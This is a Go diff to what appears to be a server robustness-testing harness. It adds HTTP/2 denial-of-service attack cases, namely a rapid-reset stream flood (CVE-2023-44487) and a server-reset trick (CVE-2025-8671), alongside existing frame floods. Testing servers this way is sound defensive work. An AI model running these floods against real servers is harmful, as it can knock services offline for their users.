@@ -33,11 +33,14 @@ func protocolAttacks() []attack {
 // frameAttacks misuse HTTP/2.
 func frameAttacks() []attack {
 	list := []attack{
-		{name: "HTTP/2, CONTINUATION", run: func(s *siege) { s.frames(10, continuations) }},
-		{name: "HTTP/2, PING", run: func(s *siege) { s.frames(10, pingFrames) }},
-		{name: "HTTP/2, SETTINGS", run: func(s *siege) { s.frames(10, settings) }},
-		{name: "HTTP/2, empty DATA", run: func(s *siege) { s.frames(10, emptyData) }},
-		{name: "HTTP/2, header table", run: func(s *siege) { s.frames(10, headerTable) }},
+		{name: "HTTP/2, CONTINUATION", run: func(s *siege) { s.frames(10, 100, continuations) }},
+		{name: "HTTP/2, PING", run: func(s *siege) { s.frames(10, 100, pingFrames) }},
+		{name: "HTTP/2, SETTINGS", run: func(s *siege) { s.frames(10, 100, settings) }},
+		{name: "HTTP/2, empty DATA", run: func(s *siege) { s.frames(10, 100, emptyData) }},
+		{name: "HTTP/2, header table", run: func(s *siege) { s.frames(10, 100, headerTable) }},
+		{name: "HTTP/2, rapid reset", run: func(s *siege) { s.frames(1, 1000, takeBack) }},
+		{name: "HTTP/2, rapid resets", run: func(s *siege) { s.frames(10, 100, takeBack) }},
+		{name: "HTTP/2, resets by the server", run: func(s *siege) { s.frames(10, 100, spoil) }},
 	}
 	for i := range list {
 		list[i].secure = true
@@ -208,8 +211,8 @@ type h2 struct {
 	fields *hpack.Encoder
 }
 
-// frames has n clients misuse HTTP/2.
-func (s *siege) frames(n int, turn func(*h2) error) {
+// frames has n clients misuse HTTP/2, each so many times in 50 ms.
+func (s *siege) frames(n, times int, turn func(*h2) error) {
 	s.each(n, func(int) string {
 		return s.connected(func(c net.Conn) string {
 			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
@@ -235,7 +238,7 @@ func (s *siege) frames(n int, turn func(*h2) error) {
 					return "closed"
 				default:
 				}
-				for i := 0; i < 100 && err == nil; i++ {
+				for i := 0; i < times && err == nil; i++ {
 					err = turn(h)
 				}
 				s.rest(50 * time.Millisecond) // a flood is what the server does with it, not the time that it takes here
@@ -278,6 +281,24 @@ func continuations(h *h2) error {
 		}
 	}
 	return nil
+}
+
+// takeBack requests something and takes that back (CVE-2023-44487).
+func takeBack(h *h2) error {
+	stream, err := h.request("GET", "/good/1", true)
+	if err != nil {
+		return err
+	}
+	return h.WriteRSTStream(stream, http2.ErrCodeCancel)
+}
+
+// spoil requests something, and has the server reset the stream (CVE-2025-8671).
+func spoil(h *h2) error {
+	stream, err := h.request("GET", "/good/1", false)
+	if err != nil {
+		return err
+	}
+	return h.WriteRawFrame(http2.FrameWindowUpdate, 0, stream, []byte{0, 0, 0, 0}) // nothing more is an error
 }
 
 func pingFrames(h *h2) error { return h.WritePing(false, [8]byte{1}) }
